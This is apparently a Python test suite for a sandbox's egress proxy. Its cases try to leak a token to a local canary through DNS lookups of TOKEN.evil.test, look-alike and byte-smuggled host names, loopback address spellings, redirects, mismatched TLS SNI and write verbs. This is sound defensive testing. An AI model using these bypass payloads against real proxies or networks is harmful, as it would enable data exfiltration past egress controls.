"""Attacks by network: whom commands reach, and what may not leave with what is allowed.

What octavo's proxy has to stop is tried in a cage with a list of hosts, whose names all lead to a
canary on this machine: nothing is ever sent out of it.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable, Sequence

import msgspec

from octavo.sandbox import OPEN, Command, Mode, Network, Policy
from octavo.sandbox.caged import open_cage
from octavo.sandbox.net.tunnel import Ports
from octavo.sandbox.network import CageNetwork
from octavo.sandbox.run import run_caged
from octavo.trial.attack import OPEN_NETWORK, Case, Down, Turn
from octavo.trial.attack.scene import Scene
from octavo.trial.attack.walls import ADDRESSES, BYTES, HOPS, HOSTS, NAMES, NO_ROUTE, TLS, VERBS

GOOD = "good.example"
EVIL = (
    "good.example.evil.test", "evilgood.example", "good.example-evil.test", "xgood.example",
    "evil.test", "good.example.", "GOOD.EXAMPLE.EVIL.TEST",
)  # fmt: skip
TIMEOUT_S = 20.0

_PROXY = """
def proxied(raw, port=3128):
    with socket.create_connection(("127.0.0.1", port), 3) as sock:
        sock.settimeout(3)
        sock.sendall(raw)
        return sock.recv(200)
"""
_DIRECT = """
def send(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect(address)
        sock.sendall(b"GET /" + TOKEN.encode() + b" HTTP/1.1\\r\\n\\r\\n")
        return sock.recv(100)
"""


def _heard(scene: Scene) -> str:
    return scene.heard()


# ---- In the user's own network ----


def _dials(scene: Scene) -> Sequence[Turn]:
    code = f"""{_DIRECT}
for name in list(os.environ):
    if "proxy" in name.lower():
        del os.environ[name]
attempt(lambda: send(("127.0.0.1", TCP)))
attempt(lambda: send(("::ffff:127.0.0.1", TCP), socket.AF_INET6))
attempt(lambda: send(("localhost", TCP)))
"""
    return [[scene.python(code)]]


def _datagrams(scene: Scene) -> Sequence[Turn]:
    code = """
def datagram():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return sock.sendto(TOKEN.encode(), ("127.0.0.1", UDP))
attempt(datagram)
"""
    return [[scene.python(code)]]


# ---- Through the proxy ----


async def _everywhere_here(name: str) -> Sequence[str]:
    del name
    return ["127.0.0.1"]


def _caged(
    code: str, up: Network, down: Network, *, hears_names: bool = False
) -> Callable[[Scene], Awaitable[None]]:
    """Return what runs `code` in a cage with one or the other network."""

    async def act(scene: Scene) -> None:
        async def resolve(name: str) -> Sequence[str]:
            if hears_names:
                scene.canaries.hear(name.encode())
            return await _everywhere_here(name)

        network = down if scene.lowered else up
        policy = Policy(Mode.WORKSPACE_WRITE, scene.workspace, network=network)
        words = scene.python_command(_PROXY + _DIRECT + code)
        env = {name: scene.world.env[name] for name in ("PATH", "HOME")}
        command = Command(("sh", "-c", words), scene.workspace, env)
        ports = Ports(http=scene.canaries.tcp, https=scene.canaries.tcp)
        served = CageNetwork(network, resolve=resolve, ports=ports)
        async with open_cage(policy, network=served) as cage:
            await cage.ready()
            if network.access == "hosts" and not served.environment:
                scene.missing = "commands have no network here, so there is no list of hosts"
                return
            _, said = await run_caged(cage, command, timeout_s=TIMEOUT_S, limit_bytes=1 << 16)
        scene.outputs = [said.decode("utf-8", "replace")]

    return act


_LISTED = Network("hosts", allow_local=(GOOD,))

_PREFIXES = f"""
for host in {EVIL!r}:
    if host.strip(".").lower() == {GOOD!r}:
        continue
    raw = f"GET http://{{host}}:{{TCP}}/{{TOKEN}} HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n".encode()
    attempt(lambda: proxied(raw))
    user = f"GET http://{GOOD}@{{host}}:{{TCP}}/{{TOKEN}} HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n"
    attempt(lambda: proxied(user.encode()))
    def connect():
        with socket.create_connection(("127.0.0.1", 3128), 3) as sock:
            sock.settimeout(3)
            sock.sendall(f"CONNECT {{host}}:{{TCP}} HTTP/1.1\\r\\n\\r\\n".encode())
            said = sock.recv(200)
            sock.sendall(f"GET /{{TOKEN}} HTTP/1.1\\r\\n\\r\\n".encode())
            return said, sock.recv(100)
    attempt(connect)
"""
_EVIL_LISTED = Network(
    "hosts", allow_local=(GOOD, *(name.lower().rstrip(".") for name in EVIL if name != GOOD + "."))
)

_ODD_BYTES = f"""
hosts = [b"evil.test\\0.{GOOD}", b"{GOOD}\\0.evil.test", b"evil.test#.{GOOD}",
         b"evil.test\\t{GOOD}", b"evil.test%00.{GOOD}", b"evil.test/.{GOOD}",
         b"evil.test?{GOOD}", b"evil.test\\\\@{GOOD}",
         "evil.test\\u3002{GOOD}".encode(), b"evil.test\\r\\nHost: {GOOD}"]
port = str(TCP).encode()
path = b"/" + TOKEN.encode()
if LOWERED:
    attempt(lambda: send(("127.0.0.1", TCP)))
    hosts = []
for host in hosts:
    attempt(lambda: proxied(b"GET http://" + host + b":" + port + path + b" HTTP/1.1\\r\\n\\r\\n"))
    def socks():
        with socket.create_connection(("127.0.0.1", 1080), 3) as sock:
            sock.settimeout(3)
            sock.sendall(b"\\5\\1\\0")
            sock.recv(2)
            sock.sendall(b"\\5\\1\\0\\3" + bytes([len(host)]) + host + struct.pack(">H", TCP))
            said = sock.recv(100)
            sock.sendall(b"GET " + path + b" HTTP/1.1\\r\\n\\r\\n")
            return said, sock.recv(100)
    attempt(socks)
"""

_INWARD = f"""
for host in ("{GOOD}", "127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "[::1]", "0.0.0.0", "127.1",
             "2130706433", "0x7f.0.0.1", "017700000001", "[64:ff9b::7f00:1]", "[2002:7f00:1::]",
             "127.0.0.1.", "localhost."):
    raw = f"GET http://{{host}}:{{TCP}}/{{TOKEN}} HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n".encode()
    attempt(lambda: proxied(raw))
"""

_REDIRECTED = f"""
import urllib.request
url = f"http://{GOOD}:{{TCP}}/{{MARK}}"
opener = urllib.request.build_opener(urllib.request.ProxyHandler({{"http": "http://127.0.0.1:3128"}}))
attempt(lambda: opener.open(url, timeout=5).read())
"""

_FRONTED = f"""
import ssl
def hello():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(into, out, server_hostname=TOKEN + ".evil.test")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()
def front():
    port = TCP if LOWERED else 3128
    with socket.create_connection(("127.0.0.1", port), 3) as sock:
        sock.settimeout(3)
        if not LOWERED:
            sock.sendall(f"CONNECT {GOOD}:{{TCP}} HTTP/1.1\\r\\n\\r\\n".encode())
            print(sock.recv(200))
        sock.sendall(hello())
        return sock.recv(200)
attempt(front)
"""

_NAMED = """
def query(name):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0\\0\\1\\0\\1"
def ask():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(3)
    sock.sendto(query(TOKEN + ".evil.test"), ("127.0.0.1", 53))
    return sock.recv(500)
attempt(ask)
attempt(lambda: socket.getaddrinfo(TOKEN + ".evil.test", 80))
host = f"{TOKEN}.evil.test"
raw = f"GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"
attempt(lambda: proxied(raw.encode()))
"""

_POSTS = f"""
for verb in ("POST", "PUT", "DELETE", "PATCH"):
    raw = f"{{verb}} http://{GOOD}:{{TCP}}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n"
    raw += f"Content-Length: {{len(TOKEN)}}\\r\\n\\r\\n{{TOKEN}}"
    attempt(lambda: proxied(raw.encode()))
    attempt(lambda: proxied(raw.replace(verb, "GET").encode()))
    def captured():
        with socket.create_connection(("{GOOD}", 80), 3) as sock:
            sock.settimeout(3)
            sock.sendall(raw.replace(f"http://{GOOD}:{{TCP}}", "").encode())
            return sock.recv(200)
    attempt(captured)
"""


def _sends_on(scene: Scene) -> None:
    """The canary answers with a redirect to another host, which is where the token goes."""
    place = f"http://other.test:{scene.canaries.tcp}/{scene.token}"
    answer = f"HTTP/1.1 302 Found\r\nLocation: {place}\r\nContent-Length: 0\r\n\r\n"
    scene.canaries.answers[scene.mark.encode()] = answer.encode()


def _through_proxy(
    attack: str, way: str, wall: str, code: str, up: Network, down: Network,
    *, hears_names: bool = False, prepare: Callable[[Scene], None] | None = None,
) -> Case:  # fmt: skip
    return Case(
        attack=attack,
        way=way,
        wall=wall,
        prepare=prepare,
        act=_caged(code, up, down, hears_names=hears_names),
        harm=_heard,
        down=Down(),
    )


CASES = (
    Case(attack="A-34", way="sends a datagram that says something",
         wall=NO_ROUTE, bait=_datagrams, harm=_heard, down=OPEN_NETWORK),
    _through_proxy("A-34", "looks names up that are not allowed", NAMES, _NAMED, _LISTED,
                   Network("hosts", allow=("*",)), hears_names=True),
    _through_proxy("A-35", "asks for hosts that begin or end like an allowed one", HOSTS,
                   _PREFIXES, _LISTED, _EVIL_LISTED),
    _through_proxy("A-36", "puts odd bytes into a host's name", BYTES, _ODD_BYTES, _LISTED, OPEN),
    _through_proxy("A-37", "asks for this machine in every spelling", ADDRESSES, _INWARD,
                   Network("hosts", allow=("*", GOOD)), _LISTED),
    _through_proxy("A-38", "is sent on to a host that is not allowed", HOPS, _REDIRECTED, _LISTED,
                   Network("hosts", allow_local=(GOOD, "other.test")), prepare=_sends_on),
    _through_proxy("A-39", "names another host in TLS than to the proxy", TLS, _FRONTED, _LISTED,
                   OPEN),
    Case(attack="A-40", way="dials without the proxy", wall=NO_ROUTE, bait=_dials, harm=_heard,
         down=OPEN_NETWORK),
    _through_proxy("A-41", "sends data to a host that is only to be read", VERBS, _POSTS,
                   msgspec.structs.replace(_LISTED, reading_only=True), _LISTED),
)  # fmt: skip
